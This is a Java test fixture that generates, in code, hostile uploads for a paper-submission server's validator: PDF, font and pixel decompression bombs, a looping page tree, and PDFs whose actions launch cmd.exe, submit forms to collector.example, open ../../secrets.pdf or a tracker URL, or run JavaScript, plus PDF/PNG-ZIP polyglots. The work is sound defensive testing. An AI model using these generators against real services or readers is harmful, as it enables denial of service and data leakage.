package org.colloquium.kernel.files.domain;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

/**
 * Hostile uploads, made by code so that the repository holds no dangerous file: decompression bombs
 * of text and of pixels, a page tree that loops, PDFs that launch programs, send forms, import
 * data, open other documents or a web address, act by themselves, carry an XFA form, JavaScript or
 * an attached file, a PDF that is also a ZIP archive, a truncated JPEG, and two harmless PDFs to
 * compare with.
 *
 * <p>Only the JDK is used, so the corpus can also be written from outside the tests (for a load
 * test that uploads these files), straight from this source file:
 *
 * <pre>
 *   java colloquium-kernel/src/test/java/org/colloquium/kernel/files/domain/HostileFiles.java DIR
 * </pre>
 *
 * <p>The PDFs are written object by object, with a correct cross-reference table: a library that
 * makes PDFs refuses to write most of them.
 */
public final class HostileFiles {

  private HostileFiles() {}

  /** Writes every file of {@link #corpus()} into the directory given as the only argument. */
  public static void main(String[] args) throws IOException {
    if (args.length != 1) {
      System.err.println("usage: java HostileFiles.java <directory>");
      System.exit(2);
    }
    Path directory = Files.createDirectories(Path.of(args[0]));
    for (Map.Entry<String, Supplier<byte[]>> file : corpus().entrySet()) {
      byte[] bytes = file.getValue().get();
      Files.write(directory.resolve(file.getKey()), bytes);
      System.out.printf("%-32s %,12d bytes%n", file.getKey(), bytes.length);
    }
  }

  /**
   * Why each hostile file is refused, as the last part of the message key the server answers with:
   * {@code submission.pdf.<reason>} for a submission's PDF through the API or the form, {@code
   * file.pdf.<reason>} for an event's attachment, {@code file.image.<reason>} for a logo. The
   * harmless files are not listed.
   */
  public static final Map<String, String> REFUSALS =
      Map.ofEntries(
          Map.entry("text-bomb-5mb.pdf", "tooComplex"),
          Map.entry("text-bomb-50mb.pdf", "tooComplex"),
          Map.entry("stream-bomb-128mb.pdf", "tooComplex"),
          Map.entry("font-bomb-128mb.pdf", "tooComplex"),
          Map.entry("object-stream-bomb-128mb.pdf", "tooComplex"),
          Map.entry("page-tree-loop.pdf", "unreadable"),
          Map.entry("deep-nesting.pdf", "unreadable"),
          Map.entry("launch.pdf", "launchesApplications"),
          Map.entry("submit-form.pdf", "submitsForms"),
          Map.entry("import-data.pdf", "importsData"),
          Map.entry("goto-remote.pdf", "opensOtherDocuments"),
          Map.entry("goto-embedded.pdf", "opensOtherDocuments"),
          Map.entry("uri-open-action.pdf", "opensLinkOnOpen"),
          Map.entry("additional-actions.pdf", "runsAutomaticActions"),
          Map.entry("xfa-form.pdf", "containsXfa"),
          Map.entry("javascript.pdf", "containsJavascript"),
          Map.entry("embedded-file.pdf", "containsEmbeddedFiles"),
          Map.entry("pdf-zip-polyglot.pdf", "alsoAnArchive"),
          Map.entry("pixel-bomb-30000x30000.png", "tooManyPixels"),
          Map.entry("truncated.jpg", "notAnImage"),
          Map.entry("png-zip-polyglot.png", "alsoAnArchive"));

  /**
   * Every file by name, made when asked for (the pixel bomb takes a few seconds). The name says
   * what it is; the tests say what each must be refused for.
   */
  public static Map<String, Supplier<byte[]>> corpus() {
    Map<String, Supplier<byte[]>> files = new LinkedHashMap<>();
    files.put("text-bomb-5mb.pdf", () -> textBomb(5));
    files.put("text-bomb-50mb.pdf", () -> textBomb(50));
    files.put("stream-bomb-128mb.pdf", () -> streamBomb(128));
    files.put("font-bomb-128mb.pdf", () -> fontBomb(128));
    files.put("object-stream-bomb-128mb.pdf", () -> objectStreamBomb(128));
    files.put("page-tree-loop.pdf", HostileFiles::pageTreeLoop);
    files.put("deep-nesting.pdf", () -> deepNesting(100_000));
    files.put("launch.pdf", HostileFiles::launch);
    files.put("submit-form.pdf", HostileFiles::submitForm);
    files.put("import-data.pdf", HostileFiles::importData);
    files.put("goto-remote.pdf", HostileFiles::remoteGoTo);
    files.put("goto-embedded.pdf", HostileFiles::embeddedGoTo);
    files.put("uri-open-action.pdf", HostileFiles::uriOpenAction);
    files.put("additional-actions.pdf", HostileFiles::additionalActions);
    files.put("xfa-form.pdf", HostileFiles::xfaForm);
    files.put("javascript.pdf", HostileFiles::javaScript);
    files.put("embedded-file.pdf", HostileFiles::embeddedFile);
    files.put("pdf-zip-polyglot.pdf", HostileFiles::pdfZipPolyglot);
    files.put("pixel-bomb-30000x30000.png", () -> pixelBomb(30_000, 30_000));
    files.put("truncated.jpg", HostileFiles::truncatedJpeg);
    files.put("png-zip-polyglot.png", HostileFiles::pngZipPolyglot);
    files.put("harmless.pdf", HostileFiles::harmless);
    files.put("harmless-doi-link.pdf", HostileFiles::doiLink);
    return files;
  }

  // ---- PDFs --------------------------------------------------------------------------------

  /**
   * One page whose compressed content shows {@code megabytes} MB of the letter A: a few kilobytes
   * on the wire, millions of glyphs for a text extractor.
   */
  public static byte[] textBomb(int megabytes) {
    byte[] text = new byte[megabytes * 1024 * 1024];
    Arrays.fill(text, (byte) 'A');
    byte[] content = concat(ascii("BT /F1 9 Tf 72 700 Td ("), text, ascii(") Tj ET\n"));
    return onePage("", "", content, true);
  }

  /** One page whose content stream unpacks to {@code megabytes} MB of spaces (no text at all). */
  public static byte[] streamBomb(int megabytes) {
    return onePageWithStream(
        "", "", ascii("BT /F1 9 Tf 72 700 Td (Title) Tj ET\n"), megabytes, (byte) ' ');
  }

  /**
   * One page in an embedded TrueType font whose font program unpacks to {@code megabytes} MB: a
   * text extractor unpacks it to read the font.
   */
  public static byte[] fontBomb(int megabytes) {
    Pdf pdf = new Pdf();
    int catalog = pdf.reserve();
    int pages = pdf.reserve();
    int page = pdf.reserve();
    int font = pdf.reserve();
    int descriptor = pdf.reserve();
    int fontFile = pdf.reserve();
    int content = pdf.reserve();
    pdf.set(catalog, "<< /Type /Catalog /Pages " + pages + " 0 R >>");
    pdf.set(pages, "<< /Type /Pages /Kids [" + page + " 0 R] /Count 1 >>");
    pdf.set(
        page,
        "<< /Type /Page /Parent "
            + pages
            + " 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 "
            + font
            + " 0 R >> >> /Contents "
            + content
            + " 0 R >>");
    pdf.set(
        font,
        "<< /Type /Font /Subtype /TrueType /BaseFont /Bomb /FirstChar 32 /LastChar 126"
            + " /Widths ["
            + " 500".repeat(95)
            + " ] /Encoding /WinAnsiEncoding /FontDescriptor "
            + descriptor
            + " 0 R >>");
    pdf.set(
        descriptor,
        "<< /Type /FontDescriptor /FontName /Bomb /Flags 32 /FontBBox [0 0 1000 1000]"
            + " /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 "
            + fontFile
            + " 0 R >>");
    pdf.setStream(fontFile, "", deflatedRun(megabytes, (byte) 0));
    pdf.setStream(content, "", deflate(ascii("BT /F1 12 Tf 72 700 Td (Anonymous paper) Tj ET\n")));
    return pdf.write(catalog, "");
  }

  /**
   * A document whose catalogue sits in a compressed object stream that unpacks to {@code megabytes}
   * MB: a reader unpacks it while opening the file, before any page.
   */
  public static byte[] objectStreamBomb(int megabytes) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    List<Integer> offsets = new ArrayList<>();
    write(out, ascii("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n"));
    // 1: catalogue (in the object stream 4), 2: pages, 3: page, 4: object stream, 5: xref stream
    offsets.add(-1);
    offsets.add(out.size());
    write(out, ascii("2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"));
    offsets.add(out.size());
    write(out, ascii("3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"));
    String header = "1 0 ";
    String catalog = "<< /Type /Catalog /Pages 2 0 R >>";
    byte[] head = ascii(header + catalog + "\n");
    byte[] objects = deflatedRunAfter(head, megabytes, (byte) ' ');
    offsets.add(out.size());
    write(
        out,
        ascii(
            "4 0 obj\n<< /Type /ObjStm /N 1 /First "
                + header.length()
                + " /Filter /FlateDecode /Length "
                + objects.length
                + " >>\nstream\n"));
    write(out, objects);
    write(out, ascii("\nendstream\nendobj\n"));
    int xrefAt = out.size();
    offsets.add(xrefAt);
    ByteArrayOutputStream entries = new ByteArrayOutputStream();
    entry(entries, 0, 0, 65535);
    entry(entries, 2, 4, 0);
    for (int i = 2; i <= 5; i++) {
      entry(entries, 1, offsets.get(i - 1), 0);
    }
    byte[] table = entries.toByteArray();
    write(
        out,
        ascii(
            "5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length "
                + table.length
                + " >>\nstream\n"));
    write(out, table);
    write(out, ascii("\nendstream\nendobj\nstartxref\n" + xrefAt + "\n%%EOF\n"));
    return out.toByteArray();
  }

  private static void entry(ByteArrayOutputStream out, int type, int field2, int field3) {
    out.write(type);
    out.write(field2 >>> 24);
    out.write(field2 >>> 16);
    out.write(field2 >>> 8);
    out.write(field2);
    out.write(field3 >>> 8);
    out.write(field3);
  }

  /** A page tree whose second node names the root as its child: walking it never ends. */
  public static byte[] pageTreeLoop() {
    Pdf pdf = new Pdf();
    int catalog = pdf.reserve();
    int root = pdf.reserve();
    int page = pdf.reserve();
    int loop = pdf.reserve();
    int font = pdf.reserve();
    int content = pdf.reserve();
    pdf.set(catalog, "<< /Type /Catalog /Pages " + root + " 0 R >>");
    pdf.set(root, "<< /Type /Pages /Kids [" + page + " 0 R " + loop + " 0 R] /Count 2 >>");
    pdf.set(
        page,
        "<< /Type /Page /Parent "
            + root
            + " 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 "
            + font
            + " 0 R >> >> /Contents "
            + content
            + " 0 R >>");
    pdf.set(loop, "<< /Type /Pages /Parent " + root + " 0 R /Kids [" + root + " 0 R] /Count 1 >>");
    pdf.set(font, HELVETICA);
    pdf.setStream(content, "", deflate(ascii("BT /F1 12 Tf 72 700 Td (Loop) Tj ET\n")));
    return pdf.write(catalog, "");
  }

  /**
   * A catalogue holding arrays nested {@code depth} deep: a parser that follows them by recursion
   * runs out of stack.
   */
  public static byte[] deepNesting(int depth) {
    return onePage("/Nested " + "[".repeat(depth) + "]".repeat(depth), "", text("Deep"), true);
  }

  /** Opening the document starts {@code cmd.exe}, where the reader lets it. */
  public static byte[] launch() {
    return onePage(
        "/OpenAction << /Type /Action /S /Launch /F (cmd.exe)"
            + " /Win << /F (cmd.exe) /P (/c calc.exe) >> >>",
        "",
        text("Launch"),
        true);
  }

  /** A link that sends the document's form fields to another site. */
  public static byte[] submitForm() {
    return onePage(
        "",
        "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0]"
            + " /A << /Type /Action /S /SubmitForm /F << /FS /URL /F (https://collector.example/)"
            + " >> /Flags 4 >> >>]",
        text("Submit"),
        true);
  }

  /** Opening the document fills its form from another file. */
  public static byte[] importData() {
    return onePage(
        "/OpenAction << /Type /Action /S /ImportData /F (data.fdf) >>", "", text("Import"), true);
  }

  /** A link that opens another PDF file on the reader's machine. */
  public static byte[] remoteGoTo() {
    return onePage(
        "",
        "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0]"
            + " /A << /Type /Action /S /GoToR /F (../../secrets.pdf) /D [0 /Fit] >> >>]",
        text("Remote"),
        true);
  }

  /** Opening the document jumps into a document embedded in another one. */
  public static byte[] embeddedGoTo() {
    return onePage(
        "/OpenAction << /Type /Action /S /GoToE /F (outer.pdf) /D [0 /Fit]"
            + " /T << /R /C /N (inner.pdf) >> >>",
        "",
        text("Embedded go-to"),
        true);
  }

  /** Opening the document opens a web address by itself. */
  public static byte[] uriOpenAction() {
    return onePage(
        "/OpenAction << /Type /Action /S /URI /URI (https://tracker.example/opened) >>",
        "",
        text("Opened"),
        true);
  }

  /** Actions run by themselves when the page opens: no script, but not asked for either. */
  public static byte[] additionalActions() {
    return onePage(
        "", "/AA << /O << /Type /Action /S /Named /N /Print >> >>", text("Automatic"), true);
  }

  /** An XFA form, which readers that support it run as an application. */
  public static byte[] xfaForm() {
    Pdf pdf = new Pdf();
    int catalog = pdf.reserve();
    int[] page = standardPage(pdf, text("XFA"));
    int xfa = pdf.reserve();
    pdf.set(
        catalog,
        "<< /Type /Catalog /Pages "
            + page[0]
            + " 0 R /NeedsRendering true /AcroForm << /Fields [] /XFA "
            + xfa
            + " 0 R >> >>");
    pdf.setStream(
        xfa,
        "",
        deflate(
            ascii(
                "<?xml version=\"1.0\"?><xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">"
                    + "<template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\">"
                    + "<subform name=\"form\"><field name=\"f\"/></subform></template>"
                    + "</xdp:xdp>")));
    return pdf.write(catalog, "");
  }

  /** Opening the document runs a script. */
  public static byte[] javaScript() {
    return onePage(
        "/OpenAction << /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
        "",
        text("Script"),
        true);
  }

  /** A document with a file attached to it. */
  public static byte[] embeddedFile() {
    Pdf pdf = new Pdf();
    int catalog = pdf.reserve();
    int[] page = standardPage(pdf, text("Attachment"));
    int file = pdf.reserve();
    pdf.set(
        catalog,
        "<< /Type /Catalog /Pages "
            + page[0]
            + " 0 R /Names << /EmbeddedFiles << /Names [(payload.exe) << /Type /Filespec"
            + " /F (payload.exe) /EF << /F "
            + file
            + " 0 R >> >>] >> >> >>");
    pdf.setStream(file, "/Type /EmbeddedFile", deflate(ascii("MZ not really a program")));
    return pdf.write(catalog, "");
  }

  /**
   * A harmless PDF followed by a ZIP archive: PDF readers stop at the end of the PDF, archive
   * programs read the archive from the end of the file. Renamed to .zip (or opened by a tool that
   * looks at content), the "paper" unpacks a program.
   */
  public static byte[] pdfZipPolyglot() {
    return concat(harmless(), zip());
  }

  /** A plain one-page PDF in Helvetica. */
  public static byte[] harmless() {
    return onePage("", "", text("A harmless paper"), true);
  }

  /** A page with an ordinary link to a DOI, as papers have in their references. */
  public static byte[] doiLink() {
    return onePage(
        "",
        "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0]"
            + " /A << /Type /Action /S /URI /URI (https://doi.org/10.1000/182) >> >>]",
        text("See doi:10.1000/182"),
        true);
  }

  // ---- images ------------------------------------------------------------------------------

  /**
   * A greyscale PNG of {@code width} x {@code height} pixels, all black: under a megabyte for 30000
   * x 30000, 900 MB once decoded.
   */
  public static byte[] pixelBomb(int width, int height) {
    ByteArrayOutputStream png = new ByteArrayOutputStream();
    write(png, new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
    ByteArrayOutputStream header = new ByteArrayOutputStream();
    int32(header, width);
    int32(header, height);
    header.write(8); // bit depth
    header.write(0); // greyscale
    header.write(0); // deflate
    header.write(0); // adaptive filtering
    header.write(0); // not interlaced
    chunk(png, "IHDR", header.toByteArray());
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
    ByteArrayOutputStream data = new ByteArrayOutputStream();
    byte[] rows = new byte[(width + 1) * Math.max(1, (8 << 20) / (width + 1))];
    int rowsPerBuffer = rows.length / (width + 1);
    byte[] buffer = new byte[64 * 1024];
    for (int done = 0; done < height; done += rowsPerBuffer) {
      int n = Math.min(rowsPerBuffer, height - done);
      deflater.setInput(rows, 0, n * (width + 1));
      while (!deflater.needsInput()) {
        data.write(buffer, 0, deflater.deflate(buffer));
      }
    }
    deflater.finish();
    while (!deflater.finished()) {
      data.write(buffer, 0, deflater.deflate(buffer));
    }
    deflater.end();
    chunk(png, "IDAT", data.toByteArray());
    chunk(png, "IEND", new byte[0]);
    return png.toByteArray();
  }

  /** A real photograph-like JPEG, cut off after 60 % of its bytes, as an interrupted upload is. */
  public static byte[] truncatedJpeg() {
    byte[] jpeg = image("jpg", 400, 300);
    return Arrays.copyOf(jpeg, jpeg.length * 6 / 10);
  }

  /** A real PNG followed by a ZIP archive. */
  public static byte[] pngZipPolyglot() {
    return concat(image("png", 40, 20), zip());
  }

  /** A small real image in {@code format} ("png" or "jpg"), with colours and a gradient. */
  public static byte[] image(String format, int width, int height) {
    BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
    var g = image.createGraphics();
    for (int x = 0; x < width; x++) {
      g.setColor(new Color((x * 255) / width, 0x4e, 0x79));
      g.drawLine(x, 0, x, height);
    }
    g.setColor(Color.WHITE);
    g.fillOval(width / 4, height / 4, width / 2, height / 2);
    g.dispose();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      if (!ImageIO.write(image, format, out)) {
        throw new IllegalStateException("no ImageIO writer for " + format);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  // ---- how they are made ---------------------------------------------------------------------

  private static final String HELVETICA =
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>";

  private static byte[] text(String line) {
    return ascii("BT /F1 12 Tf 72 700 Td (" + line + ") Tj ET\n");
  }

  /**
   * A one-page document in Helvetica: {@code catalogExtras} and {@code pageExtras} are added to the
   * catalogue's and the page's dictionaries.
   */
  private static byte[] onePage(
      String catalogExtras, String pageExtras, byte[] content, boolean deflate) {
    Pdf pdf = new Pdf();
    int catalog = pdf.reserve();
    int[] page = standardPage(pdf, null);
    pdf.set(page[1], pageDictionary(page[0], page[2], page[3], pageExtras));
    pdf.setStream(page[3], "", deflate ? deflate(content) : content);
    pdf.set(catalog, "<< /Type /Catalog /Pages " + page[0] + " 0 R " + catalogExtras + " >>");
    return pdf.write(catalog, "");
  }

  /** Like {@link #onePage} with a content stream of {@code content} followed by a run of bytes. */
  private static byte[] onePageWithStream(
      String catalogExtras, String pageExtras, byte[] content, int megabytes, byte filler) {
    Pdf pdf = new Pdf();
    int catalog = pdf.reserve();
    int[] page = standardPage(pdf, null);
    pdf.set(page[1], pageDictionary(page[0], page[2], page[3], pageExtras));
    pdf.setStream(page[3], "", deflatedRunAfter(content, megabytes, filler));
    pdf.set(catalog, "<< /Type /Catalog /Pages " + page[0] + " 0 R " + catalogExtras + " >>");
    return pdf.write(catalog, "");
  }

  /**
   * Reserves pages, page, font and content objects; with {@code content} also writes them.
   *
   * @return the object numbers of pages, page, font and content
   */
  private static int[] standardPage(Pdf pdf, byte[] content) {
    int pages = pdf.reserve();
    int page = pdf.reserve();
    int font = pdf.reserve();
    int stream = pdf.reserve();
    pdf.set(pages, "<< /Type /Pages /Kids [" + page + " 0 R] /Count 1 >>");
    pdf.set(font, HELVETICA);
    if (content != null) {
      pdf.set(page, pageDictionary(pages, font, stream, ""));
      pdf.setStream(stream, "", deflate(content));
    }
    return new int[] {pages, page, font, stream};
  }

  private static String pageDictionary(int pages, int font, int content, String extras) {
    return "<< /Type /Page /Parent "
        + pages
        + " 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 "
        + font
        + " 0 R >> >> /Contents "
        + content
        + " 0 R "
        + extras
        + " >>";
  }

  /** Objects of a PDF, numbered from 1, written with a classic cross-reference table. */
  private static final class Pdf {
    private final List<byte[]> objects = new ArrayList<>();

    int reserve() {
      objects.add(null);
      return objects.size();
    }

    void set(int number, String dictionary) {
      objects.set(number - 1, ascii(dictionary));
    }

    /** A stream with {@code /FlateDecode} data (as given) and {@code extras} in its dictionary. */
    void setStream(int number, String extras, byte[] deflated) {
      objects.set(
          number - 1,
          concat(
              ascii(
                  "<< "
                      + extras
                      + " /Filter /FlateDecode /Length "
                      + deflated.length
                      + " >>\nstream\n"),
              deflated,
              ascii("\nendstream")));
    }

    byte[] write(int root, String trailerExtras) {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      write(out, ascii("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n"));
      int[] offsets = new int[objects.size()];
      for (int i = 0; i < objects.size(); i++) {
        if (objects.get(i) == null) {
          throw new IllegalStateException("object " + (i + 1) + " reserved but never written");
        }
        offsets[i] = out.size();
        write(out, ascii((i + 1) + " 0 obj\n"));
        write(out, objects.get(i));
        write(out, ascii("\nendobj\n"));
      }
      int xref = out.size();
      StringBuilder table = new StringBuilder("xref\n0 " + (objects.size() + 1) + "\n");
      table.append("0000000000 65535 f\r\n");
      for (int offset : offsets) {
        table.append(String.format("%010d 00000 n\r\n", offset));
      }
      table
          .append("trailer\n<< /Size ")
          .append(objects.size() + 1)
          .append(" /Root ")
          .append(root)
          .append(" 0 R ")
          .append(trailerExtras)
          .append(" >>\nstartxref\n")
          .append(xref)
          .append("\n%%EOF\n");
      write(out, ascii(table.toString()));
      return out.toByteArray();
    }

    private static void write(ByteArrayOutputStream out, byte[] bytes) {
      out.write(bytes, 0, bytes.length);
    }
  }

  private static byte[] zip() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      zip.putNextEntry(new ZipEntry("payload.txt"));
      zip.write(ascii("Not a paper: an archive hidden behind one.\n"));
      zip.closeEntry();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  static byte[] deflate(byte[] bytes) {
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
    deflater.setInput(bytes);
    deflater.finish();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] buffer = new byte[64 * 1024];
    while (!deflater.finished()) {
      out.write(buffer, 0, deflater.deflate(buffer));
    }
    deflater.end();
    return out.toByteArray();
  }

  /** {@code megabytes} MB of {@code filler}, deflated without ever holding them in memory. */
  private static byte[] deflatedRun(int megabytes, byte filler) {
    return deflatedRunAfter(new byte[0], megabytes, filler);
  }

  private static byte[] deflatedRunAfter(byte[] head, int megabytes, byte filler) {
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] buffer = new byte[64 * 1024];
    deflater.setInput(head);
    while (!deflater.needsInput()) {
      out.write(buffer, 0, deflater.deflate(buffer));
    }
    byte[] run = new byte[1024 * 1024];
    Arrays.fill(run, filler);
    for (int i = 0; i < megabytes; i++) {
      deflater.setInput(run);
      while (!deflater.needsInput()) {
        out.write(buffer, 0, deflater.deflate(buffer));
      }
    }
    deflater.finish();
    while (!deflater.finished()) {
      out.write(buffer, 0, deflater.deflate(buffer));
    }
    deflater.end();
    return out.toByteArray();
  }

  private static void chunk(ByteArrayOutputStream png, String type, byte[] data) {
    int32(png, data.length);
    byte[] name = ascii(type);
    write(png, name);
    write(png, data);
    CRC32 crc = new CRC32();
    crc.update(name);
    crc.update(data);
    int32(png, (int) crc.getValue());
  }

  private static void int32(ByteArrayOutputStream out, int value) {
    out.write(value >>> 24);
    out.write(value >>> 16);
    out.write(value >>> 8);
    out.write(value);
  }

  private static void write(ByteArrayOutputStream out, byte[] bytes) {
    out.write(bytes, 0, bytes.length);
  }

  private static byte[] ascii(String s) {
    return s.getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      write(out, part);
    }
    return out.toByteArray();
  }
}
